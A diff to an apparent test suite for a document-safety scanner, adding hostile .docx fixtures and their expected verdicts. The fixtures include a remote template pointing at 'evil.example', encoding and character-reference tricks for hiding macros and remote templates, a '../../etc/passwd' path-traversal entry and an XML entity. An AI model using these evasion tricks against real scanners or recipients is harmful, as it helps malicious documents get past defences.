@@ -11,6 +11,10 @@ CONTENT_TYPES = (
     '<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="'
     'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
 )
+LINKED = (
+    '<?xml version="1.0"?><Relationships><Relationship Type="http://x/hyperlink" '
+    'Target="https://city.example/" TargetMode="External"/></Relationships>'
+)
 RELATIONS = '<?xml version="1.0"?><Relationships></Relationships>'
 
 
@@ -86,24 +90,35 @@ def docx(**parts):
 
 
 def office(part):
-    return zipped({"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": RELATIONS, part: "<x/>"})
+    parts = {"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": LINKED, part: "<x/>"}
+    return zipped(parts)
 
 
 def open_document(kind):
     parts = {
         "mimetype": f"application/vnd.oasis.opendocument.{kind}",
         "content.xml": "<office:document-content/>",
-        "META-INF/manifest.xml": "<manifest/>",
+        "META-INF/manifest.xml": '<m:manifest xmlns:m="urn:x"/>',
     }
     return zipped(parts, stored=("mimetype",))
 
 
-def remote_template():
-    relation = (
-        '<Relationships><Relationship Type="http://x/attachedTemplate" '
-        'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
-    )
+REMOTE_TEMPLATE = (
+    '<?xml version="1.0"?><Relationships><Relationship Type="http://x/attachedTemplate" '
+    'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
+)
+
+
+def related(relation):
     return docx(**{"word/_rels/settings.xml.rels": relation})
+
+
+def with_type(kind):
+    """Some part of the document is of this kind."""
+    types = CONTENT_TYPES.replace(
+        "</Types>", f'<Override PartName="/word/x.bin" ContentType="{kind}"/></Types>'
+    )
+    return zipped({"[Content_Types].xml": types, "word/document.xml": "<x/>"})
 
 
 def locked_zip():
@@ -155,17 +170,15 @@ HOSTILE = {
     "slip.docx": (docx(**{"../../etc/passwd": "x"}), "BROKEN"),
     "locked.docx": (locked_zip(), "LOCKED"),
     "macros.docx": (docx(**{"word/vbaProject.bin": "x"}), "MACROS"),
-    "macro-type.docx": (
-        zipped(
-            {
-                "[Content_Types].xml": "<Types>vnd.ms-word.document.macroEnabled</Types>",
-                "word/document.xml": "<x/>",
-            }
-        ),
-        "MACROS",
-    ),
+    "macro-type.docx": (with_type("application/vnd.ms-word.document.macroEnabled"), "MACROS"),
+    "spelt-macro-type.docx": (with_type("application/vnd.ms-office.&#118;baProject"), "MACROS"),
     "object.docx": (docx(**{"word/embeddings/oleObject1.bin": "x"}), "EMBEDDED"),
-    "template.docx": (remote_template(), "REMOTE"),
+    "template.docx": (related(REMOTE_TEMPLATE), "REMOTE"),
+    "wide-template.docx": (related(REMOTE_TEMPLATE.encode("utf-16")), "REMOTE"),
+    "spelt-template.docx": (related(REMOTE_TEMPLATE.replace('"E', '"&#69;')), "REMOTE"),
+    "capital-template.docx": (docx(**{"word/_rels/A.RELS": REMOTE_TEMPLATE}), "REMOTE"),
+    "odd-encoding.docx": (related(REMOTE_TEMPLATE.replace("?>", " encoding='x'?>")), "BROKEN"),
+    "half-read.docx": (related("<Relationships>"), "BROKEN"),
     "entities.docx": (
         docx(**{"word/_rels/document.xml.rels": "<!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>"}),
         "BROKEN",
